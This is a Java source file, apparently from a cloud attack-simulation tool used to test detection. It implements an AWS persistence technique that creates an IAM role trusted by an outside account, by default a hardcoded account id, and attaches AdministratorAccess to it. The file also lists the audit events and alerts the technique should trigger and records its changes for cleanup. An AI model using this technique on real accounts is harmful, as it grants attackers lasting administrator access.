package io.firedrill.injector.technique.persistence;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.Arns;
import io.firedrill.injector.technique.Grant;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Tags;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.List;
import java.util.Map;
import java.util.Set;

/** Creates an administrator role that an account the attacker owns may assume. */
public final class IamCreateBackdoorRole implements Technique<IamCreateBackdoorRole.Params> {

  /**
   * @param roleName the new role's name
   * @param trustedAccount the attacker's own account, trusted by the role
   */
  public record Params(String roleName, String trustedAccount) {

    public Params {
      if (!trustedAccount.matches("\\d{12}")) {
        throw new IllegalArgumentException(
            "trustedAccount must be an account id of 12 digits; got '" + trustedAccount + "'");
      }
    }

    String trustPolicy() {
      return "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":"
          + "\"arn:aws:iam::"
          + trustedAccount
          + ":root\"},\"Action\":\"sts:AssumeRole\"}]}";
    }
  }

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.persistence.iam-create-backdoor-role",
          "Create a role an outside account can assume",
          "Calls iam:CreateRole (tagged, which needs iam:TagRole too) with a trust policy naming"
              + " an account the attacker controls, and attaches AdministratorAccess to it: access"
              + " that no key rotation revokes.",
          List.of("T1098.003"),
          IncidentType.PERSISTENCE,
          List.of("CreateRole", "AttachRolePolicy"),
          List.of("Persistence:IAMUser/AnomalousBehavior"),
          List.of("iam:CreateRole", "iam:TagRole", "iam:AttachRolePolicy"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("roleName", "trustedAccount"));
    return new Params(
        with.getOrDefault("roleName", "ops-automation"),
        with.getOrDefault("trustedAccount", "193672423079"));
  }

  @Override
  public List<Grant> grants(Params p, Arns arns) {
    return Grant.on(
        arns.role(p.roleName()), "iam:CreateRole", "iam:TagRole", "iam:AttachRolePolicy");
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    ledger.willMake(Change.of(Change.IAM_ROLE, p.roleName()));
    return List.of(
        session.call(
            "iam",
            "CreateRole",
            () ->
                session
                    .iam()
                    .createRole(
                        r ->
                            r.roleName(p.roleName())
                                .assumeRolePolicyDocument(p.trustPolicy())
                                .tags(Tags.iam(session, ledger)))),
        session.call(
            "iam",
            "AttachRolePolicy",
            () ->
                session
                    .iam()
                    .attachRolePolicy(
                        r -> r.roleName(p.roleName()).policyArn(IamCreateAdminUser.ADMIN))));
  }
}
